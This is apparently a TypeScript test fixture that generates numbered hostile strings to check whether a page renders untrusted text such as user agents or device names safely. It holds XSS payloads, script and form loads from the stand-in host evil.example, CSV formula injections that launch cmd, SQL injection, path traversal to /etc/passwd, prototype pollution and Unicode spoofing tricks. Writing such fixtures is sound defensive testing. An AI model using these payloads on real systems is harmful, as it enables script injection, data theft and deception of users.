// Texts as somebody would write them who wants to act on the reader's page or deceive the reader's eye: a user agent, a device name or
// a typed user name can be any of these. Every text carries its number, so that a test can say which of them it has seen.
// Sources: OWASP XSS filter evasion and CSV injection; Unicode TR 36 and TR 39; CVE-2021-42574 (Trojan Source).

/** Called by whatever of these texts runs; the page's own object has it under this name. */
export const tripwire = 'signetTripwire';

const call = (number: number) => `${tripwire}(${number})`;

const makers: readonly ((number: number) => string)[] = [
  // Markup and handlers.
  (n) => `<script>${call(n)}</script>`,
  (n) => `</td></tr></table><script src=//evil.example/${n}.js></script>`,
  (n) => `<img src=x onerror=${call(n)}>`,
  (n) => `"><img src="https://evil.example/${n}.png">`,
  (n) => `' autofocus onfocus='${call(n)}`,
  (n) => `<svg onload=${call(n)}>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/>${n}</svg>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call(n)}&gt;">`,
  (n) => `<iframe srcdoc="<script>parent.${call(n)}</script>"></iframe>`,
  (n) => `<object data="javascript:${call(n)}"></object>`,
  (n) => `<a href="javascript:${call(n)}">Sign in again</a>`,
  (n) => `<form action=//evil.example/${n}><input name=p autofocus><button>OK</button></form>`,
  (n) => `<details open ontoggle=${call(n)}>`,
  (n) => `<body onload=${call(n)}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`,
  (n) => `<base href="//evil.example/${n}/">`,
  (n) => `<link rel=stylesheet href=//evil.example/${n}.css>`,
  (n) => `<template shadowrootmode=open><slot onslotchange=${call(n)}></slot></template>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
  (n) => `&lt;script&gt;${call(n)}&lt;/script&gt;`,
  (n) => `&#60;img src=x onerror=${call(n)}&#62;`,
  (n) => `<![CDATA[<script>${call(n)}</script>]]>`,
  (n) => `<!--><script>${call(n)}</script>-->`,
  // Addresses, styles, templates, formulas, other languages.
  (n) => `javascript:${call(n)}`,
  (n) => `java\tscript:${call(n)}`,
  (n) => `data:text/html,<script>${call(n)}</script>`,
  (n) => `vbscript:${call(n)}`,
  (n) => `//evil.example/${n}`,
  (n) => `x{background:url(https://evil.example/${n})}`,
  (n) => `color:red;background-image:url("https://evil.example/${n}")`,
  (n) => `</style><style>@import 'https://evil.example/${n}';*{display:none}`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `\${${call(n)}}`,
  (n) => `<%= ${call(n)} %>`,
  (n) => `#{${call(n)}} [[${n}]]`,
  (n) => `=HYPERLINK("https://evil.example/${n}","Open")`,
  (n) => `=cmd|'/C calc'!A${n}`,
  (n) => `+SUM(1,${n})`,
  (n) => `@SUM(${n})`,
  (n) => `-2+3+cmd|' /C calc'!A${n}`,
  (n) => `'; DROP TABLE records; -- ${n}`,
  (n) => `' or 1 eq ${n} or appDisplayName eq '`,
  (n) => `../../../../etc/passwd ${n}`,
  (n) => `\\\\evil.example\\share\\${n}`,
  (n) => `{"__proto__":{"polluted":${n}}}`,
  (n) => `%3Cscript%3E${call(n)}%3C/script%3E`,
  (n) => `\\u003cscript\\u003e${call(n)}\\u003c/script\\u003e`,
  (n) => `\u001b[31mred ${n}\u001b[0m\u0007`,
  // What cannot be seen, or reads as something else.
  (n) => `admin\u202e${n} gpj.exe`,
  (n) => `\u2066isolated ${n}\u2069 and \u202afree`,
  (n) => `zero\u200bwidth\u200c${n}\u200d\ufeff`,
  (n) => `soft\u00adhyphen ${n} \u2060joined`,
  (n) => `nul\u0000 tab\t line\n return\r ${n}`,
  (n) => `next\u0085line \u2028separated\u2029 ${n}`,
  (n) => `tag\u{e0041}\u{e0042} ${n}`,
  (n) => `variation\ufe0f\u{e0100} ${n}`,
  (n) => `lone \ud800 ${n} \udfff`,
  (n) => `not a character \uffff\ufdd0 ${n}`,
  (n) => `\u0430dmin\u0456strator ${n}`,
  (n) => `G\u03bf\u03bfgle ${n} p\u0430yp\u0430l`,
  (n) => `\uff21\uff44\uff4d\uff49\uff4e ${n} \u{1d400}\u{1d401}`,
  (n) => `z${'\u0351\u0489\u034f'.repeat(12)}algo ${n}`,
  (n) => `שלום ${n} عربي`,
  (n) => `👩‍👩‍👧‍👦 🏳️‍🌈 ${n} 🇧🇪`,
  (n) => `日本語 ${n} Zürich naïve`,
  (n) => `quotes " ' \` ‹ › « » ${n}`,
  // Length.
  (n) => `${n} ${'long '.repeat(120)}${n}`,
  (n) => `${n}${'W'.repeat(400)}${n}`,
  (n) => `${n} ${'<b>'.repeat(150)}`,
  (n) => `${n} ${'\u202e'.repeat(200)}`,
];

/** `count` texts, all different; the same ones each time. */
export function hostileTexts(count: number): readonly string[] {
  return Array.from({ length: count }, (_, place) => (makers[place % makers.length] ?? String)(firstNumber + place));
}

/** Numbers of one length, so that none stands within another. */
export const firstNumber = 510_000;

/** Which of the texts stand in what was read from a screen. */
export function numbersIn(shown: string): readonly number[] {
  return (shown.match(/51\d{4}/g) ?? []).map(Number);
}

/** A text of the same length that means nothing at all, and is unlike every other. */
export function plainTwin(text: string, number: number): string {
  let plain = `p${number}`;
  for (let state = number; plain.length < text.length; ) {
    state = (state * 48_271) % 2_147_483_647;
    plain += String.fromCharCode(97 + (state % 26));
  }
  return plain;
}
